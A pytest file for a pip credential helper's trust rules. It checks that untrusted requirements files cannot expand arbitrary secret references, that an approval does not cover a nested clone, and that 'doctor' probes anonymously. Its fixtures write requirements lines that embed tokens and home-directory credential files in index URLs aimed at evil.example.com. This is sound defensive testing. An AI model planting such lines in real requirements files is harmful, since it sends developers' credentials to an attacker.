"""What an untrusted requirements file may use, and which approval covers a file
(keyring_backend/config/locations.py), with real files and pip-private's own renderer:
- only what pip itself expands, `${NAME}` in upper case (trust attack, finding 6: a
  lower-case `${https_proxy}` rendered, which pip sends as literal text);
- a file belongs to its nearest project (finding 4: a clone or submodule inside an
  approved project was covered by the parent's approval);
- inspection never sends what an untrusted file chose (finding 5: `doctor` probed, `pin`
  ran git with the credential in an untrusted file's URL).
The evil-server versions are in tests/e2e/test_trust_attacks.py."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest

from keyring_backend.config.locations import LocationTrust, nearest_project
from keyring_backend.errors import UnresolvedReference, UntrustedReference
from keyring_backend.http import split_userinfo
from keyring_backend.probe import ProbeResult
from keyring_backend.settings import Settings
from pip_hook import doctor
from pip_hook.doctor import indexes as doctor_indexes
from pip_hook.render import Renderer
from tests.conftest import make_canary
from tests.leaks import assert_not_in_texts
from tests.trusting import trust


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    home = tmp_path / "home"
    home.mkdir()
    (home / ".pypi-token").write_text("from-a-file\n")
    return {"HOME": str(home), "UPPER": "upper-value", "https_proxy": "http://me:pw@proxy:3128",
            "Mixed": "mixed-value"}


def render(env: dict[str, str], path: Path) -> list[str]:
    renderer = Renderer(env, Settings(), lambda display, text: display, path.parent,
                        LocationTrust(env))
    renderer.include(str(path))
    return renderer.values


PIP_EXPANDS = ["${UPPER}", "${UPPER}${UPPER}"]
PIP_DOES_NOT = ["${https_proxy}", "${Mixed}", "${env:UPPER}", "${UPPER:-x}", "${MISSING:-x}",
                "${UPPER#f}", "${UPPER[0]}", "${file:~/.pypi-token}"]


@pytest.mark.parametrize("reference", PIP_EXPANDS + PIP_DOES_NOT)
def test_an_untrusted_file_renders_only_what_pip_expands(env: dict[str, str], tmp_path: Path,
                                                         reference: str) -> None:
    req = tmp_path / "cloned" / "requirements.txt"
    req.parent.mkdir()
    req.write_text(f"--index-url https://u:{reference}@evil.example.com/simple/\n")
    if reference in PIP_EXPANDS:
        assert set(render(env, req)) == {"upper-value"}
        return
    with pytest.raises(UntrustedReference) as caught:
        render(env, req)
    message = str(caught.value)
    assert "is not resolved" in message and "as pip itself expands them" in message
    assert_not_in_texts("me:pw", {"error": message})
    trust(env, req.parent)  # approved, the file may use every reference
    try:
        render(env, req)
    except UntrustedReference:
        pytest.fail("an approved directory's file may use every reference")
    except UnresolvedReference:  # `${UPPER#f}`: not JSON -- but resolved, not refused
        pass


@pytest.mark.parametrize("marker", ["pyproject.toml", ".git/", ".git"],
                         ids=["own-pyproject", "git-clone", "git-submodule"])
def test_an_approval_covers_its_own_project_not_a_checkout_inside(
        env: dict[str, str], tmp_path: Path, marker: str) -> None:
    mine = tmp_path / "acme-app"
    child = mine / "third_party" / "tools"
    (child / "reqs").mkdir(parents=True)
    (mine / "pyproject.toml").write_text('[project]\nname = "acme-app"\nversion = "1"\n')
    trust(env, mine)
    if marker.endswith("/"):
        (child / marker).mkdir()
    else:
        (child / marker).write_text("gitdir: ../../.git/modules/tools\n" if marker == ".git"
                                    else '[project]\nname = "tools"\n')
    assert nearest_project(child / "reqs") == child
    req = child / "reqs" / "requirements.txt"
    req.write_text("pkg @ https://u:${file:~/.pypi-token}@evil.example.com/p.whl\n")
    problem = LocationTrust(env).problem(req)
    assert problem is not None and f"pip-private trust {child}" in problem
    with pytest.raises(UntrustedReference):
        render(env, req)
    # the approved project's own files, in any directory below it that is no project
    own = mine / "requirements" / "prod.txt"
    own.parent.mkdir()
    own.write_text(req.read_text())
    assert "from-a-file" in render(env, own)
    trust(env, child)  # approved in its own right
    assert "from-a-file" in render(env, req)


class RecordingProbe:
    def __init__(self) -> None:
        self.calls: list[dict[str, Any]] = []

    def __call__(self, url: str, **kwargs: Any) -> ProbeResult:
        self.calls.append({"url": url, **kwargs})
        return ProbeResult(url, 401, False, "401 Unauthorized", "", 3, credential_sent=False)


def test_doctor_probes_anonymously_where_an_untrusted_file_chose_the_credential(
        env: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = make_canary("victim")
    env = {**env, "VICTIM_TOKEN": secret}
    cloned = tmp_path / "cloned"
    cloned.mkdir()
    (cloned / "requirements.txt").write_text(
        "--index-url https://u:${VICTIM_TOKEN}@evil.example.com/simple/\nacme\n")
    probe = RecordingProbe()
    monkeypatch.setattr(doctor_indexes, "probe_index", probe)
    out = io.StringIO()
    doctor.main(["-r", "requirements.txt"], out, env=env, cwd=cloned)
    [call] = probe.calls
    assert call["url"] == "https://evil.example.com/simple/"  # no userinfo left in it
    assert call["username"] is None and call["password"] is None
    assert "chosen by requirements.txt, which is not trusted; probed anonymously" in \
        out.getvalue()
    assert_not_in_texts(secret, {"doctor": out.getvalue()}, username="u")
    trust(env, cloned)
    probe.calls.clear()
    doctor.main(["-r", "requirements.txt"], io.StringIO(), env=env, cwd=cloned)
    [call] = probe.calls
    assert call["username"] == "u" and call["password"].reveal() == secret
    assert split_userinfo(call["url"])[1] == "u"  # the URL as pip would send it
